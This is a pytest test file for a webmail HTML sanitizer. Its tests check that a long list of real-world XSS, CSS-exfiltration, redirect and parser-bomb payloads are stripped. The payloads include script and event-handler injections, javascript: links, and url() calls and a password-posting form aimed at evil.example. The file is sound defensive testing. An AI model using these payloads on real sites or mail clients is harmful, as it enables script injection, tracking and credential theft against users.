"""HTML of strangers: nothing acts, nothing calls home. The payload classes of real CVEs."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webmail.html import frame, has_remote, policy, sandbox_response
from webmail.html.sanitize import ATTRIBUTES, TAGS, clean

from .payloads import MORE

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>',
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><set attributeName="style" to="background:url(http://evil.example/a)"/></svg>',
    '<svg><rect fill="url(http://evil.example/a#x)" filter="url(//evil.example/f"/></svg>',
    '<p style="--x:url(http://evil.example/a);background:var(--x)">x</p>',
    '<p style="background:\\75rl(http://evil.example/a)">x</p>',
    '<p style="background:url/**/(http://evil.example/a)">x</p>',
    "<p style=\"background:image-set('http://evil.example/a' 1x)\">x</p>",
    '<p style="background:url(http://evil.example/a">x</p>',
    '<p style="list-style:url(http://evil.example/a)">x</p>',
    '<p style="cursor:url(http://evil.example/a),auto">x</p>',
    '<p style="content:url(http://evil.example/a)">x</p>',
    '<p style="border-image:url(http://evil.example/a)">x</p>',
    '<p style="width:calc(1px + attr(data-x))">x</p>',
    "<style>@import 'http://evil.example/a';</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/a)}</style>",
    "<style>@namespace x url(http://evil.example/a);</style>",
    "<style>p{background:url(http://evil.example/a)}</style>",
    '<style>a{color:"</style><script>alert(1)</script>"}</style>',
    "<style>a{}</sty\\le><img src=x onerror=alert(1)></style>",
    "<style>@media screen{p{background:url(//evil.example/a)}}</style>",
    '<style>p[title="</style><img src=x onerror=alert(1)>"]{color:red}</style>',
    '<body background="http://evil.example/a" onload=alert(1)>x</body>',
    '<body bgcolor="red}@import url(//evil.example/a);" link="</style><script>alert(1)">x</body>',
    '<body class="a&quot;><script>alert(1)</script>" style="background:url(//evil.example/a)">x',
    "<html style='background:url(http://evil.example/a)' onclick=alert(1)><body text=x>x",
    "<html id='x&quot; onclick=&quot;alert(1)'><body id='\"><script>alert(1)</script>'>x",
    "<style>#a{background:url(http://evil.example/a)}#\\3c\\2fstyle\\3e{color:red}</style>",
    "<style>[id='</style><script>alert(1)</script>']{color:red}</style>",
    '<a href="#x" target=_top title=\'" target="_blank"\'>x</a><a href="#javascript:x">x</a>',
    '<a href="mailto:a@b?x=\'&quot;><script>alert(1)</script>">x</a>',
    '<table background="http://evil.example/a"><tr><td background="//evil.example/a">x</table>',
    '<link rel=stylesheet href="http://evil.example/a.css">',
    '<link rel=dns-prefetch href="//evil.example"><link rel=preload href="//evil.example/a">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg><style><!--</style><img src="x" onerror="alert(1)">--></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form action="http://evil.example/"><input name=password><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '<base href="http://evil.example/"><a href="x">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a><a href="imap://evil.example/x">x</a>',
    '<a href="http://ok.example" ping="http://evil.example/a">x</a>',
    '<img src="http://evil.example/a"><img src="//evil.example/a">',
    '<img srcset="http://evil.example/a 2x"><picture><source srcset="//evil.example/a"></picture>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img lowsrc="http://evil.example/a" dynsrc="http://evil.example/a">',
    '<video poster="http://evil.example/a" src="//evil.example"><track src="//evil.example">',
    '<audio src="http://evil.example/a" autoplay></audio>',
    '<iframe src="http://evil.example/"></iframe><object data="//evil.example"></object>',
    '<embed src="http://evil.example/a"><applet code=x></applet>',
    "<img name=body><form id=x></form><a id=document>x</a>",
    '<!--[if vml]><v:fill src="http://evil.example/a"/><![endif]-->',
    '<p style="position:fixed;top:0;z-index:9 !important">x</p>',
    '<p style="behavior:url(x);-moz-binding:url(http://evil.example/a)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)",
    "<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    '<a href="http://ok.example" target="_self" rel="opener">x</a>',
    r"<style>p{margin\3c\2fstyle\3e\3cimg\20src\3dhttp\3a//evil.example/a\3e:1}</style>",
    r"<style>p{border\7d *\7b background\3aurl(http://evil.example/a):1}</style>",
    r'<p style="margin\3a 1\3b position\3a fixed\3b x:1">x</p>',
    r'<p style="margin:1\3bposition:fixed">x</p>',
]
GOOD_IMAGE = re.compile(r"(?:/inline/|data:image/(?:png|gif|jpe?g|webp);base64,)")


class Judge(HTMLParser):
    """Everything that is left must be on the list of what may stay."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in (*TAGS, "html", "body"):
            self.wrong.append(f"<{tag}>")
        self.is_inside = dict(attrs).get("href", "").startswith("#")  # type: ignore[union-attr]
        for name, value in attrs:
            self.judge(tag, name, value or "")

    def judge(self, tag: str, name: str, value: str) -> None:
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"target", "rel"}
        if tag in ("html", "body"):
            allowed = {"class", "dir", "id", "lang", "style"}
        if name not in allowed:
            self.wrong.append(f"{tag} {name}")
        if name in ("src", "background") and not GOOD_IMAGE.match(value):
            self.wrong.append(f"{tag} {name}={value}")
        if name == "href" and not value.strip().startswith(("http", "mailto:", "tel:", "#")):
            self.wrong.append(f"{tag} {name}={value}")
        if name == "style" and re.search(r"(?i)https?:|//|var\(|expression|position|\\", value):
            self.wrong.append(f"{tag} {name}={value}")
        if name == "target" and value != ("_self" if self.is_inside else "_blank"):
            self.wrong.append(f"{tag} {name}={value}")


def judged(html: str, remote: bool = False, scheme: str = "light") -> list[str]:
    safe = clean(html, lambda cid: f"/inline/{len(cid)}", remote, scheme=scheme)
    judge = Judge()
    judge.feed(f"<html{safe.canvas.html}><body{safe.canvas.body}>{safe.body}")
    judge.close()
    sheet = f"{safe.styles}\n{safe.canvas.rules}\n{safe.hints}"
    if re.search(r"(?i)<|https?:|url\((?!\"/inline)|@import|@font|\\", sheet):
        judge.wrong.append(sheet)
    return judge.wrong


@pytest.mark.parametrize("scheme", ["light", "light dark"])
@pytest.mark.parametrize("payload", [*PAYLOADS, *MORE])
def test_no_payload_is_left(payload: str, scheme: str) -> None:
    assert judged(payload, scheme=scheme) == []
    assert judged(f"<div>{payload}</div><p>tail", scheme=scheme) == []


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, *MORE, "<", ">", '"', "'", "--", "</style>", "\0"]), max_size=6
    ),
    st.sampled_from(["light", "dark"]),
)
def test_no_mixture_of_payloads_is_left(pieces: list[str], scheme: str) -> None:
    assert judged("".join(pieces), scheme=scheme) == []


@given(st.text(max_size=300), st.sampled_from(["light", "dark"]))
def test_any_text_can_be_cleaned(text: str, scheme: str) -> None:
    assert judged(text, scheme=scheme) == []


def test_what_a_newsletter_needs_stays() -> None:
    html = (
        "<style>.a{color:#333;padding:4px}@media(max-width:600px){.a{width:100%}}</style>"
        '<table width="600" bgcolor="#ffffff"><tr><td class="a" style="color:red;margin:0 auto">'
        '<a href="https://shop.example/x?y=1&amp;z=2">Buy</a><img src="cid:logo@x" width="20">'
        "</td></tr></table>"
    )
    safe = clean(html, {"logo@x": "/inline/logo"}.get, remote=False)
    assert ".a{color:#333;padding:4px}" in safe.styles
    assert "@media (max-width:600px)" in safe.styles.replace("@media(", "@media (")
    assert 'style="color:red;margin:0 auto"' in safe.body
    assert 'src="/inline/logo"' in safe.body and 'bgcolor="#ffffff"' in safe.body
    assert 'href="https://shop.example/x?y=1&amp;z=2"' in safe.body
    assert safe.blocked == 0


def test_remote_images_come_only_when_asked_for() -> None:
    html = '<img src="http://t.example/p.gif"><p style="background:url(//t.example/b.png)">x</p>'
    assert has_remote(html)
    kept_out = frame(html, lambda cid: None, remote=False)
    assert kept_out.blocked == 2 and "t.example" not in kept_out.html
    let_in = frame(html, lambda cid: None, remote=True)
    assert let_in.blocked == 0 and "http://t.example/p.gif" in let_in.html
    assert not has_remote('<img src="cid:x"> http://x.example')


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "<b><i>" * 50_000,
        "<p><font>" * 20_000,
        "<a" * 500_000,
        "<style" * 200_000,
        "<style>" * 100_000,
        "<style>" + "{" * 100_000,
        "<table><tr><td>" * 5_000,
        '<p style="' + "a:b;" * 100_000 + '">',
        "url(" + " " * 500_000,
        "&" * 500_000,
        "<!--" * 200_000,
    ],
)
def test_no_bomb_takes_long(bomb: str) -> None:
    started = time.process_time()
    has_remote(bomb)
    frame(bomb, lambda cid: None, remote=False)
    assert time.process_time() - started < 5


def test_the_response_locks_the_message_in() -> None:
    response = sandbox_response(frame("<p>x</p>", lambda cid: None, False), False)
    sent = response["Content-Security-Policy"]
    assert sent.startswith(
        "sandbox allow-popups allow-popups-to-escape-sandbox allow-same-origin; default-src 'none'"
    )
    assert "script" not in sent and "http:" not in sent, "what is of our origin must not run"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert "http:" in policy(remote=True)


@pytest.mark.parametrize("element", ["iframe", "noframes", "noembed"])
def test_what_stands_in_for_a_frame_is_not_shown(element: str) -> None:
    """A browser takes it as text: an advertisement's script was read out loud."""
    html = f'<p>News</p><{element} src="//x"><script src="//x"></script></{element}><p>More</p>'
    body = clean(html, lambda cid: None, remote=False).body
    assert "script" not in body and "News" in body and "More" in body


def test_ids_are_the_messages_own_and_rules_find_them() -> None:
    safe = clean(
        "<style>#hero{color:red}p#a>b:not(#c),[id=d],[name^='e']{color:blue}</style>"
        '<div id=hero><a href="#two">x</a> <a href="#top">t</a> <a name=two>y</a></div>',
        lambda cid: None,
        remote=False,
    )
    assert "#m-hero{color:red}" in safe.styles
    assert 'p#m-a>b:not(#m-c),[id="m-d"],[name^="m-e"]{color:blue}' in safe.styles
    assert 'id="m-hero"' in safe.body and 'name="m-two"' in safe.body
    assert '<a href="#m-two" target="_self"' in safe.body
    assert '<a href="#top" target="_self"' in safe.body


def test_what_body_says_holds_for_the_whole_frame() -> None:
    html = (
        "<html style='background:#001'><!--<body bgcolor=red>-->"
        "<body bgcolor=101030 text='#f0f0f0' link=#ffd000 alink='x y' background=cid:p "
        'style="height:100%;overflow:hidden!important;margin:0" class="a>b"><table></table></body>'
    )
    shown = frame(html, "/inline/{}".format, remote=False).html
    assert '<html style="background:#001">' in shown
    assert '<body class="a&gt;b" style="margin:0"><table>' in shown
    for rule in ("body{background-color:#101030}", "body{color:#f0f0f0}",
                 "a:link{color:#ffd000}", "a:visited{color:#ffd000}",
                 'body{background-image:url("/inline/p")}'):  # fmt: skip
        assert rule in shown
    assert "a:active" not in shown and "red" not in shown
    assert clean("<body>a</body><body bgcolor=blue>b</body>", str, False).body == (
        'a<div bgcolor="blue">b</div>'
    )


def test_no_height_of_the_view_hides_what_is_below() -> None:
    safe = clean(
        "<style>div{height:100vh;max-height:calc(1px + 90dvh);overflow:hidden;width:50vw}</style>",
        lambda cid: None,
        remote=False,
    )
    assert safe.styles == "div{overflow:hidden;width:50vw}"
